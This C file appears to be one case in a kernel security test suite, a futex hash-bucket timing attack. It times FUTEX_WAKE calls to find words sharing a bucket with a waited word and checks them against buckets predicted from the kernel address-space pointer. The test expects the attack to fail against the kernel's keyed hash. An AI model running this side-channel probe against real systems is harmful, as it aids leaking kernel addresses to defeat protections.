// SPDX-License-Identifier: GPL-2.0-only
/*
 * The words that are slow are compared with those that the function, which is known, gives for the
 * true address of the address space.
 */
#include "attack.h"

#include <linux/futex.h>
#include <linux/sched.h>

COUNTED_ATTACK("opaque_ids", "futex_buckets", "LOST",
	       "Threads of the program wait for one word; where waking nobody at another word "
	       "takes longer, the two share a bucket of the kernel's table, whose function of the "
	       "object's address is known.",
	       "The function has a key.",
	       "The words that take longer are those that one address gives: the program has found "
	       "it out by time alone.");

#define WORDS 4096
#define WAITERS 12
#define STACK_SIZE 4096
#define ROUNDS 5
#define WAITED 77 /* the word that all wait for */

static uint32_t words[WORDS] __attribute__((aligned(4096)));
static char stacks[WAITERS][STACK_SIZE] __attribute__((aligned(16)));
static bool slow[WORDS];

static long futex(uint32_t *word, int operation, uint32_t value)
{
	return call6(__NR_futex, (long)word, operation | FUTEX_PRIVATE_FLAG, value, 0, 0, 0);
}

/* The new thread has its own stack, so it goes on in assembly until it is over. */
static long start_waiter(char *stack)
{
	long result;
	register long wait_operation __asm__("r12") = FUTEX_WAIT | FUTEX_PRIVATE_FLAG;
	register uint32_t *word __asm__("r13") = &words[WAITED];

	__asm__ volatile("xorl %%r10d, %%r10d\n"
			 "xorl %%r8d, %%r8d\n"
			 "syscall\n"
			 "testq %%rax, %%rax\n"
			 "jnz 1f\n"
			 "2: movl %[futex], %%eax\n"
			 "movq %%r13, %%rdi\n"
			 "movq %%r12, %%rsi\n"
			 "xorl %%edx, %%edx\n"
			 "xorl %%r10d, %%r10d\n"
			 "syscall\n"
			 "jmp 2b\n"
			 "1:"
			 : "=a"(result)
			 : "0"(__NR_clone),
			   "D"(CLONE_VM | CLONE_FILES | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD),
			   "S"(stack + STACK_SIZE), "d"(0), "r"(wait_operation),
			   "r"(word), [futex] "i"(__NR_futex)
			 : "rcx", "r8", "r10", "r11", "memory");
	return result;
}

static uint64_t wake_time(uint32_t *word)
{
	uint64_t least = UINT64_MAX;

	for (int i = 0; i < ROUNDS; i++) {
		const uint64_t start = time_stamp();
		uint64_t time;

		futex(word, FUTEX_WAKE, 1);
		time = time_stamp() - start;
		if (time < least)
			least = time;
	}
	return least;
}

/* The bucket of a word for the object at address OBJECT, as the kernel's source once had it. */
static uint64_t known_bucket(uint64_t object, const uint32_t *word)
{
	return ((object >> 4) * 0x9e3779b97f4a7c15 + ((uint64_t)word >> 2)) * 0xff51afd7ed558ccd >>
	       56;
}

/* Which of the words are slow; the number of them. */
static unsigned int find_slow(void)
{
	static uint64_t times[WORDS];
	uint64_t least = UINT64_MAX;
	unsigned int count = 0;

	for (int i = 0; i < WORDS; i++) {
		times[i] = i == WAITED ? 0 : wake_time(&words[i]);
		if (i != WAITED && times[i] < least)
			least = times[i];
	}
	say_number("count: waking nobody", least);
	for (int i = 0; i < WORDS; i++) {
		slow[i] = i != WAITED && times[i] > least + WAITERS;
		count += slow[i];
	}
	return count;
}

static bool control(void)
{
	for (int i = 0; i < WAITERS; i++)
		if (start_waiter(stacks[i]) <= 0)
			return false;
	sleep_milliseconds(50);
	/* They wait there, and one of them can be woken (and waits again). */
	return is_ordinary() && futex(&words[WAITED], FUTEX_WAKE, 1) == 1 &&
	       futex(&words[WAITED + 1], FUTEX_WAKE, 1) == 0;
}

static bool fire(void)
{
	unsigned int found, agree = 0, predicted = 0;
	uint64_t object, bucket;

	sleep_milliseconds(50);
	found = find_slow();
	object = peek(own_task() + member("task.space"));
	bucket = known_bucket(object, &words[WAITED]);
	for (int i = 0; i < WORDS; i++) {
		const bool expected = i != WAITED && known_bucket(object, &words[i]) == bucket;

		predicted += expected;
		agree += expected && slow[i];
	}
	say_number("count: slow words", found);
	say_number("count: words that the address gives", predicted);
	say_number("count: both", agree);
	if (found == 0 || found > WORDS / 16) {
		say_part("attacker: the time tells nothing about buckets\n");
		leave(9);
	}
	return agree == found && agree == predicted;
}

static void victim(void)
{
	victim_waits();
}
